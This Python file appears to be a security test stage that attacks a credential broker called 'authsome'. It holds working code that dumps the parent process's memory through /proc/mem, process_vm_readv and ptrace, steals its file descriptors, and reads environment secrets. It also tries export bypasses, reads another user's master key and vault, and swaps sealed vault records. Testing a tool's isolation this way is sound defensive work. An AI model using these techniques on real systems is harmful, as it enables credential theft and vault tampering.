"""Ring 1: read a secret where it lies."""
import ctypes, os, re, shutil, signal, sys, time

from proxy import Refused, ask, run

PARENT = os.getppid()
LIBC = ctypes.CDLL(None, use_errno=True)


def the_environment(facts):
    for name, value in os.environb.items():
        sys.stdout.buffer.write(name + b"=" + value + b"\n")


environment_variable = appended_variable = basic_in_a_variable = master_key_variable = the_environment


def environ_of_authsome(facts):
    sys.stdout.write(open(f"/proc/{PARENT}/environ", errors="replace").read())


def writable(pid):
    for line in open(f"/proc/{pid}/maps"):
        if place := re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line):
            start, end = (int(number, 16) for number in place.groups())
            if end - start < 1 << 26:
                yield start, end


def use(facts):
    ask(facts["gitlab"], "GET /api/v4/user", show_it=False)


def memory_of_authsome(facts):
    use(facts)
    memory = os.open(f"/proc/{PARENT}/mem", os.O_RDONLY)
    dump(lambda start, size: os.pread(memory, size, start))


def dump(read):
    with open("loot", "wb") as loot:
        for start, end in writable(PARENT):
            try:
                loot.write(read(start, end - start))
            except OSError:
                pass  # a page that nobody can read


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def process_vm_readv(facts):
    use(facts)

    def read(start, size):
        room = ctypes.create_string_buffer(size)
        ours, theirs = Vector(ctypes.addressof(room), size), Vector(start, size)
        got = LIBC.process_vm_readv(PARENT, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if got < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return room.raw[:got]

    dump(read)


def ptrace(facts):
    use(facts)
    attach, peek, detach = 16, 2, 17
    LIBC.ptrace.restype = ctypes.c_long
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if LIBC.ptrace(attach, PARENT, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(PARENT, 0x40000000)  # __WALL
    memory = os.open(f"/proc/{PARENT}/mem", os.O_RDONLY)
    dump(lambda start, size: os.pread(memory, size, start))
    LIBC.ptrace(detach, PARENT, None, None)


def descriptors_of_authsome(facts):
    "A socket of authsome's becomes ours: what is open in it is the use of a connection that nobody here authenticated."
    pidfd = os.pidfd_open(PARENT)
    for descriptor in range(3, 64):
        got = LIBC.syscall(438, pidfd, descriptor, 0)  # pidfd_getfd
        if got >= 0:
            print("got", descriptor, os.readlink(f"/proc/self/fd/{got}"))


def core_of_authsome(facts):
    use(facts)
    os.kill(PARENT, signal.SIGABRT)
    time.sleep(20)  # it takes us along


def key_descriptor(facts):
    os.lseek(3, 0, os.SEEK_SET)
    sys.stdout.write(os.read(3, 1000).decode())


def authsome(facts, *words, **more):
    return run([facts["authsome"], *words], **more)


def export(facts):
    authsome(facts, "export", "gitlab")


def token(facts):
    authsome(facts, "token", "gitlab")


def token_for_a_plugin(facts):
    authsome(facts, "token", "gitlab", "--format", "exec")


def get_show_secret(facts):
    authsome(facts, "get", "gitlab", "--show-secret", "--field", "refresh_token")


def credential_for_git(facts):
    import subprocess
    question = f"protocol=https\nhost={facts['gitlab']}\npath=group/private.git\n\n"
    said = subprocess.run([facts["authsome"], "credential", "git", "get"], input=question.encode(), stdout=-1, stderr=-2).stdout
    sys.stdout.buffer.write(said)


def a_run_that_may_export(facts):
    authsome(facts, "run", "--allow-export", "--", facts["authsome"], "export", "gitlab")


def without_the_variable(facts):
    environment = {name: value for name, value in os.environ.items() if name != "AUTHSOME_SESSION"}
    authsome(facts, "export", "gitlab", env=environment)


def as_a_daemon(facts):
    "A process of a session of its own, whose parents have ended."
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while os.getppid() != PARENT and os.getppid() != 1:
                time.sleep(0.01)
            os.dup2(writing, 1)
            os.environ.pop("AUTHSOME_SESSION", None)
            authsome(facts, "export", "gitlab")
        os._exit(0)
    os.close(writing)
    os.wait()
    while piece := os.read(reading, 65536):
        sys.stdout.buffer.write(piece)


def by_a_copy(facts):
    shutil.copy(facts["authsome"], "another-name")
    run(["./another-name", "export", "gitlab"])


def a_proxy_that_stays(facts):
    "A proxy of its own, whose password lies in a file."
    import subprocess
    stays = subprocess.Popen([facts["authsome"], "proxy", "--env-file", "stays.env", "--allow-export"], stdout=-3, stderr=-1)
    for _ in range(100):
        if os.path.exists("stays.env"):
            sys.stdout.write(open("stays.env").read())
        elif stays.poll() is None:
            time.sleep(0.05)
            continue
        break
    stays.kill()


def vault_export(facts):
    import subprocess
    passphrase = "correct horse battery staple"
    subprocess.run([facts["authsome"], "vault", "export", "--help"], stdout=-3)
    said = subprocess.run([facts["authsome"], "vault", "export", "gitlab", "--out", "-"], input=passphrase.encode(), stdout=-1, stderr=-2).stdout
    sys.stdout.buffer.write(said)


def revoke(facts):
    authsome(facts, "revoke", "gitlab")


def logout(facts):
    authsome(facts, "logout", "gitlab")


def allow_a_rule(facts):
    authsome(facts, "allow", "gitlab/project-access-token")


def register_a_definition(facts):
    definition = open(f"{os.environ['AUTHSOME_HOME']}/../definition.json").read()
    open("mine.json", "w").write(definition)
    authsome(facts, "register", "mine.json", "--force", "--yes")


def log_of_an_earlier_run(facts):
    sys.stdout.write(open(os.path.join(os.environ["AUTHSOME_HOME"], "audit.log")).read())


def key_of_another_user(facts):
    for name in ("master.key", "vault.db", "audit.log"):
        path = os.path.join(facts["home"], name)
        sys.stdout.buffer.write(open(path, "rb").read())


def swap_two_records(facts):
    "The record of one connection under the name of another, which the next run is meant to have."
    import sqlite3
    vault = sqlite3.connect(os.path.join(os.environ["AUTHSOME_HOME"], "vault.db"))
    rows = vault.execute("SELECT * FROM record WHERE kind = 'connection'").fetchall()
    columns = [column[1] for column in vault.execute("PRAGMA table_info(record)")]
    name, sealed = columns.index("name"), columns.index("sealed")
    vault.execute("UPDATE record SET sealed = ? WHERE kind = 'connection' AND name = ?", (rows[0][sealed], rows[1][name]))
    vault.execute("UPDATE record SET sealed = ? WHERE kind = 'connection' AND name = ?", (rows[1][sealed], rows[0][name]))
    vault.commit()
